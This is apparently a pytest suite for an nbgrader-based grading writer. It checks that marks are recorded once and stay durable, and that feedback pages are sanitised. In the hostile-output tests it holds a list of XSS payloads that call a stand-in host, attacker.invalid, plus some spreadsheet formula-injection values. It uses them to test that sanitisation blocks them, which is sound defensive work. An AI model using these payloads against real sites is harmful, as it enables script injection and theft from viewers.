"""The single writer: nbgrader's own marks and pages, written once whatever happens, and safe to open."""

import contextlib
import csv
import os
import shutil
import sqlite3
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor, wait

import nbformat
import pytest
from bs4 import BeautifulSoup
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from nbgrader.api import Gradebook
from nbgrader.preprocessors import AssignLatePenalties, SaveAutoGrades
from sqlalchemy import event
from traitlets.config import Config

from hbcourse.grading import CourseError
from hbcourse.grading.course.folder import Course, Submission
from hbcourse.grading.marks import gradebook, records, storage
from hbcourse.grading.marks.parts import Part
from hbcourse.grading.marks.records import Record
from hbcourse.grading.marks.results import Result
from hbcourse.grading.shown import harmless, table

from .classroom import first
from .nbgrader import formgrader

PRIVATE = "seventeen_times_three"
#: The smallest image that browsers show.
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
TABLE = (
    "<div>\n<style scoped>\n    .dataframe tbody tr th { vertical-align: top; }\n</style>\n"
    '<table border="1" class="dataframe">\n<thead><tr style="text-align: right;"><th></th><th>rate</th></tr></thead>\n'
    "<tbody><tr><th>A</th><td>0.25</td></tr></tbody>\n</table>\n</div>"
)


def about(name, **more):
    return {"nbgrader": {"grade_id": name, "schema_version": 3, "locked": False, "task": False, **more}}


def graded(name, points, **more):
    return about(name, grade=True, points=points, **more)


def source():
    """An assignment with parts of every kind."""
    todo = "### BEGIN SOLUTION\nanswer = 42\n### END SOLUTION"
    hidden = f"assert answer\n### BEGIN HIDDEN TESTS\nassert answer == '{PRIVATE}'\n### END HIDDEN TESTS"
    test = {"solution": False, "locked": True}
    cells = [
        new_markdown_cell("# Homework\n\nFor $a<b$ and $\\sigma_j^2$, see [the book](https://example.org)."),
        new_code_cell("import math", metadata=about("setup", grade=False, solution=False, locked=True)),
        new_code_cell(todo, metadata=about("answer", grade=False, solution=True)),
        new_code_cell(hidden, metadata=graded("test_answer", 2, **test)),
        new_code_cell("0.5 + 1", metadata=graded("test_partly", 3, **test)),
        new_code_cell(todo, metadata=graded("free_code", 1, solution=True)),
        new_markdown_cell("YOUR ANSWER HERE", metadata=graded("why", 4, solution=True)),
        new_markdown_cell(
            "Describe your project.", metadata=about("project", grade=False, solution=False, task=True, points=5)
        ),
    ]
    for number, cell in enumerate(cells):
        cell.id = f"cell-{number}"
    return new_notebook(cells=cells, metadata={"kernelspec": {"name": "python3", "display_name": "Python 3"}})


@pytest.fixture(scope="module")
def released(tmp_path_factory):
    folder = tmp_path_factory.mktemp("released") / "course"
    Course(folder).create()
    (folder / "source" / "hw").mkdir(parents=True)
    nbformat.write(source(), folder / "source" / "hw" / "hw.ipynb")
    outcome = Course(folder).api.generate_assignment("hw")
    assert outcome["success"], outcome["log"]
    return folder


@pytest.fixture
def folder(released, tmp_path):
    return shutil.copytree(released, tmp_path / "course")


def executed(folder, answers=None, outputs=None, extra=()):
    """The notebook of a student, as it comes back from its run."""
    notebook = nbformat.read(folder / "release" / "hw" / "hw.ipynb", as_version=4)
    tests = {cell.metadata.get("nbgrader", {}).get("grade_id"): cell.source for cell in source().cells}
    for cell in notebook.cells:
        name = cell.metadata.get("nbgrader", {}).get("grade_id")
        if str(name).startswith("test_"):
            cell.source = tests[name]
        cell.source = (answers or {}).get(name, cell.source)
        if cell.cell_type == "code":
            cell.outputs = (outputs or {}).get(name, [])
            cell.execution_count = 1
    notebook.cells[3:3] = extra
    return notebook


POINTS = {
    cell.metadata.nbgrader.grade_id: cell.metadata.nbgrader.points
    for cell in source().cells
    if cell.metadata.get("nbgrader", {}).get("points")
}
ANSWERED = {"answer": "answer = 42", "free_code": "free = 1", "why": "Because it shrinks.", "project": "Mine."}
FAILED = new_output("error", ename="CheckFailed", evalue="answer is not right. Hint: add.", traceback=[PRIVATE])
PARTLY = new_output("execute_result", {"text/plain": "1.5"}, execution_count=1)


def record(folder, student="ada", problem="", answers=ANSWERED, **more):
    return Record(Submission("hw", student), {}, executed(folder, answers, **more), problem)


def write(folder, *given):
    with writer(folder) as book:
        return [book.write(each) for each in given][-1]


@contextlib.contextmanager
def writer(folder):
    with gradebook.opened(Course(folder)) as book:
        book.settle({"hw": POINTS}, [])
        yield book


def marks(folder):
    """Every row that grading writes, by names, without the random ids."""
    with contextlib.closing(sqlite3.connect(folder / "gradebook.db")) as database:
        grades = database.execute(
            "SELECT s.student_id, c.name, s.timestamp, n.late_submission_penalty, g.auto_score, g.manual_score,"
            " g.extra_credit, g.needs_manual_grade FROM grade g JOIN base_cell c ON c.id = g.cell_id"
            " JOIN submitted_notebook n ON n.id = g.notebook_id JOIN submitted_assignment s ON s.id = n.assignment_id"
        ).fetchall()
        comments = database.execute(
            "SELECT s.student_id, c.name, o.auto_comment, o.manual_comment FROM comment o"
            " JOIN base_cell c ON c.id = o.cell_id JOIN submitted_notebook n ON n.id = o.notebook_id"
            " JOIN submitted_assignment s ON s.id = n.assignment_id"
        ).fetchall()
        students = database.execute("SELECT id FROM student").fetchall()
    return sorted(grades, key=repr), sorted(comments, key=repr), sorted(students)


def files(folder):
    return {
        str(path.relative_to(folder)): path.read_bytes()
        for kind in ("autograded", "feedback")
        for path in sorted((folder / kind).rglob("*"))
        if path.is_file()
    }


def autograded(folder, student="ada"):
    return folder / "autograded" / student / "hw" / "hw.ipynb"


def page(folder, student="ada"):
    return (folder / "feedback" / student / "hw" / "hw.html").read_text()


def by_hand(folder, name="why", points=2.5, student="ada"):
    with Gradebook(f"sqlite:///{folder}/gradebook.db") as book:
        grade = book.find_grade(name, "hw", "hw", student)
        grade.manual_score, grade.needs_manual_grade = points, False
        book.db.commit()


def handed_in_at(folder, text, student="ada"):
    path = folder / "submitted" / student / "hw" / "timestamp.txt"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def points_of(result):
    return {part.name: part.points for part in result.parts}


def part(result, name) -> Part:
    return next(part for part in result.parts if part.name == name)


OUTCOMES = {
    "right": {},
    "failed": {"outputs": {"test_answer": [FAILED], "test_partly": [PARTLY]}},
    "warned": {"outputs": {"test_answer": [new_output("stream", name="stderr", text="careful")]}},
    "full": {"outputs": {"test_partly": [new_output("execute_result", {"text/plain": "3"})]}},
    "word": {"outputs": {"test_partly": [new_output("execute_result", {"text/plain": "'fine'"})]}},
    "unanswered": {"answers": {}},
    "extra": {"extra": [new_code_cell("1"), new_markdown_cell("A note.")], "outputs": {"test_answer": [FAILED]}},
}


@pytest.mark.parametrize("late", first([True, False]))
def test_the_rows_are_those_of_nbgraders_own_scoring(folder, tmp_path, late):
    other = shutil.copytree(folder, tmp_path / "other")
    for place in (folder, other):
        with (place / "nbgrader_config.py").open("a") as config:
            config.write("c.LateSubmissionPlugin.penalty_method = 'zero'\n")
        with Gradebook(f"sqlite:///{place}/gradebook.db") as book:
            book.update_or_create_assignment("hw", duedate="2026-01-10 12:00:00 UTC")
        for student in OUTCOMES:
            handed_in_at(place, "2026-01-11 12:00:00 UTC" if late else "2026-01-09 12:00:00 UTC", student)
    write(folder, *(record(folder, student, **more) for student, more in OUTCOMES.items()))

    settings = Config({"LateSubmissionPlugin": {"penalty_method": "zero"}})
    with Gradebook(f"sqlite:///{other}/gradebook.db") as book:
        for student in OUTCOMES:
            book.update_or_create_student(student)
            text = (other / "submitted" / student / "hw" / "timestamp.txt").read_text()
            book.update_or_create_submission("hw", student, timestamp=text)
    for student, more in OUTCOMES.items():
        names = {"notebook": "hw", "assignment": "hw", "student": student, "db_url": f"sqlite:///{other}/gradebook.db"}
        notebook = record(other, student, **more).notebook
        for step in (SaveAutoGrades, AssignLatePenalties):
            step(config=settings).preprocess(notebook, {"nbgrader": names})
    assert marks(folder) == marks(other)
    assert len(marks(folder)[0]) == 5 * len(OUTCOMES)


def test_a_result_tells_points_messages_and_what_is_left_to_read(folder):
    result = write(folder, record(folder, outputs={"test_answer": [FAILED], "test_partly": [PARTLY]}))
    expected = {"test_answer": 0, "test_partly": 1.5, "free_code": None, "why": None, "project": None}
    assert points_of(result) == expected
    assert list(points_of(result)) == list(expected)
    assert (result.score, result.max_score, result.to_read, result.problem) == (1.5, 15, 3, "")
    assert part(result, "test_answer").message == "answer is not right. Hint: add."


def test_to_write_twice_is_to_write_once_and_to_read_tells_the_same(folder):
    handed_in_at(folder, "2026-01-09 12:00:00 UTC")
    given = record(folder, outputs={"test_answer": [FAILED]})
    with writer(folder) as book:
        assert book.read(given) is None
        first = book.write(given)
        before = marks(folder), files(folder)
        assert book.write(given) == first
        assert book.read(given) == first
    assert (marks(folder), files(folder)) == before
    assert {"autograded/ada/hw/hw.ipynb", "autograded/ada/hw/timestamp.txt", "feedback/ada/hw/hw.html"} <= set(
        before[1]
    )
    assert autograded(folder).stat().st_mode & 0o777 == 0o444
    assert (folder / "feedback" / "ada" / "hw" / "hw.html").stat().st_mode & 0o777 == 0o644


def test_few_queries_are_made_and_one_commit(folder):
    given = record(folder)
    with writer(folder) as book:
        statements, commits = [], []
        event.listen(book.gradebook.engine, "before_cursor_execute", lambda *args: statements.append(args[2]))
        event.listen(book.gradebook.engine, "commit", commits.append)
        book.write(given)
        added = len(statements)
        book.write(given)
    assert added <= 22
    assert len(statements) - added <= 16
    assert len(commits) == 2


def test_marks_given_by_hand_stand_until_what_they_were_given_for_changes(folder):
    given = record(folder)
    write(folder, given)
    by_hand(folder, "why", 2.5)
    by_hand(folder, "test_answer", 1)
    by_hand(folder, "project", 5)
    same = write(folder, given)
    assert points_of(same) == {"test_answer": 1, "test_partly": 3, "free_code": None, "why": 2.5, "project": 5}
    changed = record(folder, answers=ANSWERED | {"free_code": "free = 2"})
    now = write(folder, changed)
    assert points_of(now) == {"test_answer": 2, "test_partly": 3, "free_code": None, "why": 2.5, "project": None}
    assert write(folder, changed) == now
    another = write(folder, record(folder, answers=ANSWERED | {"why": "No idea."}))
    assert part(another, "why").points is None
    # They were given for those answers, and come back with them.
    assert write(folder, given) == same


def test_a_rejected_file_has_a_row_and_a_page_with_the_reason_and_no_outdated_notebook(folder):
    write(folder, record(folder))
    by_hand(folder)
    result = write(folder, Record(Submission("hw", "ada"), {}, None, "hw.ipynb is not <valid> JSON."))
    assert set(points_of(result).values()) == {0}
    assert (result.score, result.to_read, result.problem) == (0, 0, "Not graded: hw.ipynb is not <valid> JSON.")
    assert "hw.ipynb is not &lt;valid&gt; JSON." in page(folder)
    assert not autograded(folder).exists()
    with Gradebook(f"sqlite:///{folder}/gradebook.db") as book:
        assert book.find_submission("hw", "ada").score == 0
    repaired = write(folder, record(folder))
    assert (repaired.score, repaired.to_read) == (7.5, 2)


def test_a_notebook_that_was_stopped_is_graded_as_far_as_it_came_and_says_so(folder):
    result = write(folder, record(folder, problem="Its kernel died.", outputs={"test_partly": [FAILED]}))
    assert (result.score, result.problem) == (2, "Its kernel died.")
    assert "<strong>Its kernel died.</strong>" in page(folder)
    assert autograded(folder).read_text().count("Its kernel died.") == 1


def test_a_test_that_gives_more_than_its_points_is_left_to_a_person(folder):
    result = write(folder, record(folder, outputs={"test_partly": [new_output("execute_result", {"text/plain": "9"})]}))
    assert part(result, "test_partly").points is None
    assert "test_partly cannot be scored" in result.problem


@pytest.mark.parametrize(
    ("text", "stored", "problem"),
    [
        ("2026-01-09 12:00:00 UTC", "2026-01-09 12:00:00.000000", ""),
        ("2026-01-09T13:30:00+01:30", "2026-01-09 12:00:00.000000", ""),
        ("", None, "It is not known whether it is late: in its timestamp.txt, '' is not a time with the year first"),
        ("2026-01-09 13:00 Europe/Berlin", "2026-01-09 12:00:00.000000", ""),
        ("soon", None, "It is not known whether it is late: in its timestamp.txt, 'soon' is not a time with the year"),
        ("05.11.2026 10:00", None, "It is not known whether it is late: in its timestamp.txt, '05.11.2026 10:00' is"),
        ("2026-01-09 12:00", None, "It is not known whether it is late: in its timestamp.txt, '2026-01-09 12:00' has"),
    ],
)
def test_the_time_of_the_submission_is_kept(folder, text, stored, problem):
    handed_in_at(folder, text)
    result = write(folder, record(folder))
    assert {row[2] for row in marks(folder)[0]} == {stored}
    assert result.problem.startswith(problem)
    assert bool(result.problem) == bool(problem)


def test_cells_that_the_gradebook_does_not_know_carry_no_points(folder):
    stranger = new_code_cell("1", metadata=graded("bonus", 100, solution=False))
    result = write(folder, record(folder, extra=[stranger]))
    assert result.max_score == 15
    assert "bonus" not in autograded(folder).read_text()


def test_text_that_no_file_can_hold_does_not_stop_the_run(folder):
    half = "x = '\ud800'"
    printed = {"answer": [new_output("stream", name="stdout", text="\udfff")]}
    given = record(folder, answers=ANSWERED | {"answer": half, "why": half}, outputs=printed)
    assert write(folder, given).problem == ""
    assert "x = '\N{REPLACEMENT CHARACTER}'" in autograded(folder).read_text()


def test_marks_stand_if_the_page_cannot_be_written(folder):
    (folder / "feedback").write_text("a file where a folder should be")
    result = write(folder, record(folder))
    assert result.score == 5
    assert result.problem.startswith("Graded, but its feedback page could not be written: ")


def test_an_assignment_that_was_never_released_is_named(folder):
    with pytest.raises(CourseError, match="knows no assignment 'other'; release it again"):
        write(folder, Record(Submission("other", "ada"), {}, None, "No."))


def test_a_table_holds_no_formula(tmp_path):
    parts = (Part("test_a", 0, 1, "=1+1 is not right."), Part("why", None, 2))
    students = ("=cmd()", "+1", "-1", "@sum", "\tx", "plain")
    results = [Result(Submission("hw", name), parts, "=HYPERLINK(1)") for name in students]
    results.append(Result(Submission("hw", "rejected"), parts[::-1]))
    table.write(results, tmp_path / "marks.csv", {})
    with (tmp_path / "marks.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert [row["student"] for row in rows] == ["'=cmd()", "'+1", "'-1", "'@sum", "'\tx", "plain", "rejected"]
    assert rows[0]["problem"] == "'=HYPERLINK(1)"
    assert {row["test_a"] for row in rows} == {"0"}
    assert {row["why"] for row in rows} == {""}


# What stops a run, and what does not


SCRIPT = f"POINTS = {POINTS}"
KILL = (
    SCRIPT
    + """
import os, shutil, signal, sys
from pathlib import Path
from sqlalchemy import event
from hbcourse.grading.course.folder import Course, Submission
from hbcourse.grading.marks import gradebook, records

start, work = Path(sys.argv[1]), Path(sys.argv[2])
steps, limit, armed = 0, -1, False

def step(*_):
    global steps
    steps += armed
    if steps == limit:
        os.kill(os.getpid(), signal.SIGKILL)

def audit(name, _):
    if name in ("os.rename", "os.remove", "os.chmod", "os.mkdir"):
        step()

def write_all(folder, until):
    global limit, armed
    given = [records.read(Course(folder).record(Submission("hw", student))) for student in ("ada", "bob")]
    with gradebook.opened(Course(folder)) as book:
        book.settle({"hw": POINTS}, [])
        for moment in ("before_cursor_execute", "after_cursor_execute", "commit"):
            event.listen(book.gradebook.engine, moment, step)
        limit, armed = until, True
        for record in given:
            book.write(record)
        limit, armed = -1, False

sys.addaudithook(audit)
total = 0
for until in (-1, *range(1, 1000, 5)):
    place = shutil.copytree(start, work / str(until))
    channel = os.pipe()
    if (child := os.fork()) == 0:
        write_all(place, until)
        os.write(channel[1], str(steps).encode())
        os._exit(0)
    os.close(channel[1])
    killed = os.waitpid(child, 0)[1] == signal.SIGKILL
    if until == -1:
        total = int(os.read(channel[0], 100))
    elif until > total:
        shutil.rmtree(place)
        break
    assert killed == (until != -1), until
print(total)
"""
)


@pytest.mark.durability
def test_killed_at_any_moment_and_run_again_it_ends_the_same(folder, tmp_path):
    write(folder, record(folder))
    by_hand(folder)
    handed_in_at(folder, "2026-01-09 12:00:00 UTC")
    changed = record(folder, answers=ANSWERED | {"why": "Better."}, outputs={"test_answer": [FAILED]})
    empty = Record(Submission("hw", "bob"), {}, None, "It is empty.")
    for each in (changed, empty):
        records.write(Course(folder).record(each.submission), each)
    done = subprocess.run([sys.executable, "-c", KILL, folder, tmp_path], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert int(done.stdout) > 60
    calm = tmp_path / "-1"
    killed = sorted(path for path in tmp_path.iterdir() if path.name.isdecimal())
    assert len(killed) > 12
    for place in killed:
        write(place, changed, empty)
        assert marks(place) == marks(calm), place.name
        assert files(place) == files(calm), place.name


def refused(folder):
    with pytest.raises(CourseError) as caught:
        write(folder, record(folder))
    assert "Nothing is lost" in str(caught.value)
    return str(caught.value)


def test_a_locked_gradebook_is_named_at_the_start_and_in_the_middle(folder, monkeypatch):
    monkeypatch.setattr(storage, "PATIENCE", 0.05)
    path = folder / "gradebook.db"
    with contextlib.closing(sqlite3.connect(path, isolation_level=None)) as other:
        other.execute("BEGIN EXCLUSIVE")
        assert "close what works with it" in refused(folder)
        other.execute("ROLLBACK")
        with writer(folder) as book:
            other.execute("BEGIN EXCLUSIVE")
            with pytest.raises(CourseError, match=r"Another program keeps the gradebook .* locked"):
                book.write(record(folder))
            other.execute("ROLLBACK")
            assert book.write(record(folder)).score == 5
    assert {row[0] for row in marks(folder)[0]} == {"ada"}


def test_a_short_lock_is_waited_for(folder):
    other = sqlite3.connect(folder / "gradebook.db", isolation_level=None)
    with contextlib.closing(other), writer(folder) as book, ThreadPoolExecutor(1) as pool:
        other.execute("BEGIN EXCLUSIVE")
        written = pool.submit(book.write, record(folder))
        assert not wait([written], timeout=0.3).done
        other.execute("ROLLBACK")
        assert written.result().score == 5


def test_a_gradebook_that_is_no_database_or_is_damaged_is_named(folder):
    path = folder / "gradebook.db"
    content = path.read_bytes()
    path.write_bytes(b"not a database" * 500)
    assert "is damaged; put a copy of it from before in its place" in refused(folder)
    path.write_bytes(content[:4096] + b"\xff" * 8192 + content[12288:])
    assert "is damaged" in refused(folder)
    path.write_bytes(content)
    assert write(folder, record(folder)).score == 5


def test_a_gradebook_of_an_older_nbgrader_is_named_and_left_as_it_is(folder):
    path = folder / "gradebook.db"
    with contextlib.closing(sqlite3.connect(path)) as database:
        database.execute("UPDATE alembic_version SET version_num = '50a4d84c131a'")
        database.commit()
    content = path.read_bytes()
    assert "nbgrader db upgrade" in refused(folder)
    assert path.read_bytes() == content


GRADE = (
    SCRIPT
    + """
import sys
from pathlib import Path
from hbcourse.grading import CourseError
from hbcourse.grading.course.folder import Course, Submission
from hbcourse.grading.marks import gradebook, records

folder = Path(sys.argv[1])
try:
    with gradebook.opened(Course(folder)) as book:
        book.settle({"hw": POINTS}, [])
        exec(sys.argv[2])
        print(book.write(records.read(Course(folder).record(Submission("hw", "ada")))).score)
except CourseError as error:
    print(error)
"""
)


def in_namespace(script, *arguments):
    """Run a shell script that may mount what it likes, as root or not."""
    if subprocess.run(["unshare", "-rm", "true"], capture_output=True, check=False).returncode:
        reason = "needs user namespaces: on Debian and Ubuntu, sysctl kernel.unprivileged_userns_clone=1"
        pytest.fail(reason) if os.environ.get("CI") else pytest.skip(reason)
    done = subprocess.run(
        ["unshare", "-rm", "sh", "-euc", script, "sh", *map(str, arguments)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return done.stdout.splitlines()


@pytest.mark.durability
def test_what_cannot_be_written_to_is_named_and_nothing_is_lost(folder, tmp_path):
    records.write(Course(folder).record(Submission("hw", "ada")), record(folder))
    (folder / "feedback").mkdir()
    lines = in_namespace(
        """
        for place in "$1" "$1/gradebook.db" "$1/feedback"; do
            mount --bind "$place" "$place"
            mount -o remount,ro,bind "$place"
            "$2" -c "$3" "$1" pass
            umount "$place"
        done
        "$2" -c "$3" "$1" pass
        """,
        *(folder, sys.executable, GRADE),
    )
    assert len(lines) == 4
    for line, place in zip(lines, (folder, "The gradebook", folder / "feedback"), strict=False):
        assert str(place) in line
        assert "cannot be written to" in line
        assert "Nothing is lost" in line
    assert lines[-1] == "5.0"


@pytest.mark.durability
def test_a_full_disk_is_named_at_the_start_and_in_the_middle_and_nothing_is_lost(folder, tmp_path):
    records.write(Course(folder).record(Submission("hw", "ada")), record(folder))
    disk = tmp_path / "disk"
    disk.mkdir()
    fill = "import os; os.system(f'cat /dev/zero > {folder}/fill 2>/dev/null')"
    lines = in_namespace(
        """
        mount -t tmpfs -o size=8m tmpfs "$4"
        cp -r "$1" "$4/course"
        cat /dev/zero > "$4/course/fill" 2>/dev/null || true
        "$2" -c "$3" "$4/course" pass
        rm "$4/course/fill"
        "$2" -c "$3" "$4/course" "$5"
        rm "$4/course/fill"
        "$2" -c "$3" "$4/course" pass
        """,
        *(folder, sys.executable, GRADE, disk, fill),
    )
    assert len(lines) == 3
    for line in lines[:2]:
        assert f"The disk of {disk}/course is full; free some space" in line
        assert "Nothing is lost" in line
    assert lines[2] == "5.0"


# The pages


RICH = [
    new_output("display_data", {"text/html": TABLE, "text/plain": "   rate\nA  0.25"}),
    new_output("display_data", {"image/png": PNG, "text/plain": "<Figure>"}, metadata={"image/png": {"width": 7}}),
    new_output("display_data", {"text/latex": "$\\tau^2$", "text/plain": "tau"}),
    new_output("stream", name="stdout", text="a < b & c\n"),
]


def visible(text):
    """What a page shows: its text and its images."""
    soup = BeautifulSoup(text, "html.parser")
    images = [(image["src"], image["alt"]) for image in soup.find_all("img")]
    scripts = [script.extract().get("src") for script in soup.find_all("script")]
    return soup.get_text(" ", strip=True).split(), images, scripts, [a["href"] for a in soup.select("a[href]")]


def test_the_page_is_the_one_that_nbgrader_makes(folder):
    handed_in_at(folder, "2026-01-09 12:00:00 UTC")
    outputs = {"answer": RICH, "test_answer": [FAILED], "test_partly": [PARTLY]}
    with writer(folder) as book:
        # Another first: what is remembered from it must not show.
        book.write(record(folder, "bob", answers={}))
        given = record(folder, outputs=outputs, extra=[new_markdown_cell("## My own\n\n| a |\n|---|\n| 1 |")])
        book.write(given)
        # nbgrader shows 0 points for what nobody has read yet.
        for name in ("free_code", "why", "project"):
            by_hand(folder, name, 1)
        book.write(given)
    ours = page(folder)
    outcome = Course(folder).api.generate_feedback("hw", "ada", force=True)
    assert outcome["success"], outcome["log"]
    assert visible(ours) == visible(page(folder))
    words, images, _, _ = visible(ours)
    assert {"rate", "0.25", "own", "(Score:", "1.5", "15.0)", "Hint:"} <= set(words)
    assert images == [(f"data:image/png;base64,{PNG}", "No description has been provided for this image")]
    assert "$a&lt;b$" in ours
    assert '<table class="dataframe"' in ours.replace(' border="1"', "")


def test_feedback_shows_the_hint_and_neither_the_hidden_test_nor_what_it_printed(folder):
    spilled = [new_output("stream", name="stdout", text=PRIVATE), FAILED]
    settings = (folder / "nbgrader_config.py").read_text()
    # Also in a course whose settings say nothing of it.
    for kept in (settings, "".join(line for line in settings.splitlines(True) if "GenerateFeedback" not in line)):
        (folder / "nbgrader_config.py").write_text(kept)
        write(folder, record(folder, outputs={"test_answer": spilled}))
        assert PRIVATE not in page(folder)
        assert "HIDDEN" not in page(folder)
        assert "Hint: add." in page(folder)
    assert PRIVATE in autograded(folder).read_text()


ATTACK = "fetch('http://attacker.invalid/');window.hacked=1"
ATTACKS = [
    f"<script>{ATTACK}</script>",
    f'<img src="x" onerror="{ATTACK}">',
    "<img src='http://attacker.invalid/seen.png'>",
    "![seen](http://attacker.invalid/seen-too.png)",
    f'<a href="javascript:{ATTACK}">click</a> [click](javascript:{ATTACK.replace("(", "%28").replace(")", "%29")})',
    f'<a href="jav&#x09;ascript:{ATTACK}">click</a> <a href="data:text/html,<script>{ATTACK}</script>">click</a>',
    f'<iframe srcdoc="<script>parent.{ATTACK}</script>"></iframe><iframe src="javascript:parent.{ATTACK}"></iframe>',
    f"<svg onload=\"{ATTACK}\"><script>{ATTACK}</script><use href='http://attacker.invalid/u'/></svg>",
    '<meta http-equiv="refresh" content="0;url=http://attacker.invalid/">',
    '<form action="http://attacker.invalid/"><button autofocus onfocus="' + ATTACK + '">Full credit</button></form>',
    f'<details open ontoggle="{ATTACK}">x</details><video><source onerror="{ATTACK}"></video>',
    '<style>@import "http://attacker.invalid/css";</style><link rel="stylesheet" href="http://attacker.invalid/css">',
    '<p style="background:url(http://attacker.invalid/bg)">x</p><base href="http://attacker.invalid/">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={ATTACK}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={ATTACK}>"></noscript>',
    f"<object data='data:text/html,<script>{ATTACK}</script>'></object><embed src='http://attacker.invalid/e'>",
    f"`<script>` ``` </pre><script>{ATTACK}</script>",
    '<div class="mark-graded full-credit btn" id="why" data-link="x">Full credit</div>',
]
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ATTACK}"><script>{ATTACK}</script></svg>'
HOSTILE = [
    *(new_output("display_data", {"text/html": attack, "text/plain": "x"}) for attack in ATTACKS),
    *(new_output("display_data", {"text/markdown": attack}) for attack in ATTACKS),
    *(new_output("stream", name="stdout", text=attack) for attack in ATTACKS),
    new_output("display_data", {"application/javascript": ATTACK}),
    new_output("display_data", {"image/svg+xml": SVG}),
    new_output("display_data", {"text/latex": f"$x$<script>{ATTACK}</script>"}),
    new_output("display_data", {"text/html": f"<script>{ATTACK}</script>"}, metadata={"text/html": {"isolated": True}}),
    new_output("display_data", {"image/png": f'"><script>{ATTACK}</script>'}),
    new_output(
        "display_data",
        {"image/png": PNG},
        metadata={"filenames": {"image/png": "http://attacker.invalid/f"}, "image/png": {"width": "1 onload=x"}},
    ),
    new_output("display_data", {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>"}}),
    new_output("display_data", {"text/vnd.mermaid": f"<script>{ATTACK}</script>"}),
    new_output("error", ename=ATTACKS[0], evalue=ATTACKS[1], traceback=ATTACKS),
]


def hostile(folder):
    everything = "\n\n".join(ATTACKS)
    answers = ANSWERED | {"why": everything, "project": everything, "answer": everything}
    extra = [new_markdown_cell(attack) for attack in ATTACKS]
    extra.append(nbformat.v4.new_raw_cell(everything))
    outputs = {"answer": HOSTILE, "free_code": HOSTILE, "test_answer": [HOSTILE[-1]]}
    given = record(folder, answers=answers, extra=extra, outputs=outputs, problem=f"Stopped: {ATTACKS[0]}")
    given.notebook.metadata["title"] = ATTACKS[0]
    given.notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"x": "</script><script>"}}
    return given


@contextlib.contextmanager
def visit(browser, address, allowed=()):
    """A page after everything on it that can be clicked has been; and what it asked for from elsewhere."""
    asked = []

    def answer(route):
        if route.request.url.startswith(("data:", address, *allowed)):
            return route.continue_()
        asked.append(route.request.url)
        return route.abort()

    visitor = browser.new_page()
    visitor.route("**/*", answer)
    try:
        visitor.goto(address)
        visitor.wait_for_timeout(300)
        for link in visitor.query_selector_all(".rendered_html a:not([href^=http])"):
            link.evaluate("link => link.click()")
        visitor.wait_for_timeout(300)
        yield visitor, [url for url in asked if "mathjax" not in url.lower()]
    finally:
        visitor.close()


@pytest.mark.parametrize("settings", ["as released", "of an older course"])
def test_a_feedback_page_runs_nothing_that_a_student_wrote(folder, browser, settings):
    if settings != "as released":
        config = (folder / "nbgrader_config.py").read_text()
        (folder / "nbgrader_config.py").write_text(config.replace("c.HTMLExporter", "other = c.HTMLExporter"))
        kept = [line for line in config.splitlines() if "HTMLExporter." not in line]
        (folder / "nbgrader_config.py").write_text("\n".join(kept))
    given = hostile(folder)
    assert write(folder, given).problem == given.problem
    with visit(browser, (folder / "feedback" / "ada" / "hw" / "hw.html").as_uri()) as (visitor, asked):
        assert visitor.evaluate("window.hacked") is None
        assert asked == []
        assert visitor.query_selector("iframe, form, object, embed, base, svg, .full-credit, #why") is None


def test_formgrader_runs_nothing_that_a_student_wrote(folder, browser):
    given = hostile(folder)
    assert write(folder, given).problem == given.problem
    with Gradebook(f"sqlite:///{folder}/gradebook.db") as book:
        submission = book.find_submission_notebook("hw", "hw", "ada").id
    with formgrader(folder) as site:
        address = f"{site}formgrader/submissions/{submission}/"
        with visit(browser, address, [site]) as (visitor, asked):
            assert visitor.query_selector("#test_partly") is not None, "this is formgrader's page"
            assert visitor.evaluate("window.hacked") is None
            assert asked == []
            assert visitor.query_selector(".text_cell_render :is(iframe, form, object, .full-credit, #why)") is None
    assert {row[5] for row in marks(folder)[0]} == {None}


def test_text_that_cannot_be_rendered_is_shown_as_it_is(folder):
    lost = "![lost](attachment:none.png) <script>"
    assert write(folder, record(folder, answers=ANSWERED | {"why": lost})).problem == ""
    assert "![lost](attachment:none.png) &lt;script&gt;" in page(folder)


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        (TABLE, TABLE.split("<style")[0] + "\n" + TABLE.split("</style>\n")[1]),
        ('<a href="https://example.org">a</a>', '<a href="https://example.org">a</a>'),
        ('<h2 id="why">A <em>b</em></h2>', "<h2>A <em>b</em></h2>"),
        ('<span class="mi">1</span><span class="score btn">2</span>', '<span class="mi">1</span><span>2</span>'),
        ("<style>p {}", ""),
        ("a &lt; b", "a &lt; b"),
    ],
)
def test_what_does_no_harm_is_kept(text, kept):
    assert harmless.clean_html(text) == kept


@pytest.mark.parametrize("text", ["<b>" * 33_000, "<b></i>" * 14_000, "<p>x" * 30_000, "x" * 200_000])
def test_html_that_would_take_long_to_read_is_shown_as_text(text):
    shown = harmless.clean_html(text)
    assert shown.startswith("<pre>")
    assert "<b>" not in shown
    assert len(shown) < 600_000


def test_an_output_is_cut_to_what_a_page_can_show(folder):
    long = [new_output("stream", name="stdout", text="x" * 500_000)]
    big = [new_output("display_data", {"image/png": "A" * 5_000_000, "text/plain": "<Figure>"})]
    write(folder, record(folder, outputs={"answer": long, "free_code": big}))
    assert len(autograded(folder).read_text()) < 150_000
    assert "and more, left out" in page(folder)
